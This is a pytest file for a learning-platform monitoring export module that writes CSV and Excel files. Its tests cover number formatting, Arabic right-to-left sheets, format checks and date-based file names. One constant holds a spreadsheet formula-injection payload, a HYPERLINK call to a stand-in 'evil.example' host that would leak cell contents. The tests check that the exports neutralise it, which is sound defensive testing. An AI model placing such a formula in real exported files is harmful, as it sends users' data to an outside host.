"""Tables as files: read back as a spreadsheet reads them."""

import csv
import io
from collections.abc import Sequence
from zipfile import ZipFile

import pytest
import time_machine
from flask import Flask
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from lms.core import clock
from lms.core.days import day_of
from lms.core.i18n import LANGUAGES, speaking
from lms.monitoring.exports.csv_lines import PART, lines_of
from lms.monitoring.exports.files import Format, UnknownFormat, asked_format, file_of
from lms.monitoring.exports.workbook import write_workbook
from lms.monitoring.indicators import BY_SLUG
from lms.monitoring.tables import Cell, Column, Kind, Mark, Row, Table

RATE = Column.of(BY_SLUG["completion-rate"])
DAYS = Column.of(BY_SLUG["time-to-complete"])
DANGEROUS = '=HYPERLINK("http://evil.example/?"&A1)'


def table(rows: Sequence[Row] | None = None, **values: object) -> Table:
    given_values: dict[str, object] = {
        "title": "Completion by region",
        "heading": "Region",
        "columns": [RATE, DAYS, Column("Note")],
        "rows": rows if rows is not None else [
            Row("Souss-Massa", [0.5, 12.25, DANGEROUS], key="MA-09"),
            Row("Oriental", [Mark.HIDDEN, Mark.MISSING, "https://evil.example"], key="MA-02"),
        ],
        "total": Row("Morocco", [0.4, 12, ""]),
        "filters": [("Period", "2025"), ("Place", "Morocco")],
        "as_of": clock.now(),
        "slug": "completion-by-region",
    }  # fmt: skip
    return Table(**(given_values | values))  # type: ignore[arg-type]


def read_csv(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def workbook_of(shown: Table) -> CalamineWorkbook:
    into = io.BytesIO()
    write_workbook(shown, into)
    into.seek(0)
    return CalamineWorkbook.from_filelike(into)


def test_csv_holds_numbers_as_numbers_and_says_what_is_hidden(app: Flask) -> None:
    rows = read_csv("".join(lines_of(table())))

    assert rows == [
        ["Region", "Completion rate", "Days to complete", "Note"],
        ["Souss-Massa", "0.5", "12.25", f"'{DANGEROUS}"],
        ["Oriental", "hidden", "", "https://evil.example"],
        ["Morocco", "0.4", "12", ""],
    ]


def test_csv_leaves_in_parts(app: Flask) -> None:
    rows = (Row(f"Row {number}", [1.0]) for number in range(PART + 1))
    parts = list(lines_of(table(rows, columns=[RATE], total=None)))  # type: ignore[arg-type]

    assert len(parts) == 3
    assert len(read_csv("".join(parts))) == PART + 2


@given(st.text(min_size=1, max_size=30), st.text(max_size=30))
def test_no_text_of_a_csv_runs(label: str, note: str) -> None:
    shown = table([Row(label, [note])], columns=[Column("Note")], heading="Name", total=None)

    row = read_csv("".join(lines_of(shown)))[1]

    for cell, written in zip(row, (label, note), strict=True):
        # As csv reads lone line ends inside quotes: unchanged.
        assert cell.endswith(written)
        assert not cell.startswith(("=", "+", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"))
        assert not cell.startswith("-") or cell[1:].replace(".", "", 1).isdecimal()


@given(st.floats(-1e9, 1e9))
def test_numbers_of_a_csv_are_read_back(number: float) -> None:
    shown = table([Row("a", [number])], columns=[RATE], total=None)

    (cell,) = read_csv("".join(lines_of(shown)))[1][1:]

    assert float(cell) == pytest.approx(number, abs=1e-6)
    assert "e" not in cell


def test_workbook_holds_the_table_the_definitions_and_the_filters(app: Flask) -> None:
    book = workbook_of(table())

    assert book.sheet_names == ["Figures", "Definitions", "Filters"]
    rows = book.get_sheet_by_name("Figures").to_python()
    assert rows[1:] == [
        ["Souss-Massa", 0.5, 12.25, DANGEROUS],
        ["Oriental", "hidden", "", "https://evil.example"],
        ["Morocco", 0.4, 12, ""],
    ]
    name, definition, unit, numerator, denominator, source, since = book.get_sheet_by_name("Definitions").to_python()[1]
    assert (name, numerator, denominator, since) == ("Completion rate", "enrolments_completed", "enrolments", "2026-11")
    assert all((definition, unit, source))
    asked = book.get_sheet_by_name("Filters").to_python()
    assert ["Period", "2025"] in asked
    assert any(row[0] == "hidden" for row in asked)


def test_workbook_gives_no_date_to_what_is_not_recorded(app: Flask) -> None:
    book = workbook_of(table(columns=[Column.of(BY_SLUG["jobs"]), Column.of(BY_SLUG["members"])], rows=[], total=None))

    since = {row[0]: row[-1] for row in book.get_sheet_by_name("Definitions").to_python()[1:]}
    assert since == {"Jobs": "Not recorded yet", "Members": "2024-01"}


def test_workbook_has_neither_formulas_nor_links(app: Flask) -> None:
    into = io.BytesIO()
    write_workbook(table(), into)

    with ZipFile(into) as parts:
        sheets = {name: parts.read(name).decode() for name in parts.namelist() if "sheets/" in name}
    assert "xl/worksheets/sheet1.xml" in sheets
    for text in sheets.values():
        assert "<f>" not in text
        assert "hyperlink " not in text.lower().replace(DANGEROUS.lower(), "")


@given(st.text(max_size=40))
def test_any_text_goes_into_a_workbook(note: str) -> None:
    rows = (
        workbook_of(table([Row("a", [note])], columns=[Column("Note")], total=None)).get_sheet_by_index(0).to_python()
    )

    assert rows[1][0] == "a"


def test_arabic_workbook_runs_from_right_to_left(app: Flask) -> None:
    for code, found in (("ar", True), ("fr", False)):
        into = io.BytesIO()
        with speaking(LANGUAGES[code]):
            write_workbook(table(), into)
        with ZipFile(into) as parts:
            sheets = [parts.read(name).decode() for name in parts.namelist() if name.startswith("xl/worksheets/sheet")]
        assert [('rightToLeft="1"' in text) for text in sheets] == [found] * 3


@pytest.mark.parametrize(("form", "start"), [(Format.CSV, b"\xef\xbb\xbf"), (Format.XLSX, b"PK")])
def test_address_asks_for_a_file(app: Flask, form: Format, start: bytes) -> None:
    with app.test_request_context(f"/?format={form}"):
        response = file_of(table(), form)
        response.direct_passthrough = False
        content = response.get_data()
        response.close()

    assert content.startswith(start)
    name = response.headers["Content-Disposition"]
    assert f"completion-by-region-{day_of(clock.now()).isoformat()}.{form}" in name
    assert response.headers["Cache-Control"] == "no-store"


def test_other_formats_are_refused_in_words(app: Flask) -> None:
    assert asked_format({}) is None
    assert asked_format({"format": "xlsx"}) is Format.XLSX
    for nonsense in ("pdf", "CSV", "csv'", "../x"):
        with pytest.raises(UnknownFormat) as refused:
            asked_format({"format": nonsense})
        assert refused.value.status == 400
        assert "csv" in str(refused.value)


def test_table_tells_what_it_hides_and_defines() -> None:
    cells: list[Cell] = [0.1, Mark.HIDDEN]
    assert table([Row("a", cells)], columns=[RATE, DAYS], total=None).hides
    assert not table([Row("a", [0.1])], columns=[RATE], total=None).hides
    assert [one.slug for one in table().indicators] == ["completion-rate", "time-to-complete"]
    assert Column("x", Kind.COUNT).is_number


@pytest.mark.parametrize("form", list(Format))
def test_a_file_is_called_by_the_day_in_morocco(app: Flask, form: Format) -> None:
    with time_machine.travel("2025-11-27T23:20:00Z", tick=False), app.test_request_context(), speaking(LANGUAGES["fr"]):
        response = file_of(table(), form)

    assert f"completion-by-region-2025-11-28.{form}" in response.headers["Content-Disposition"]
    response.close()
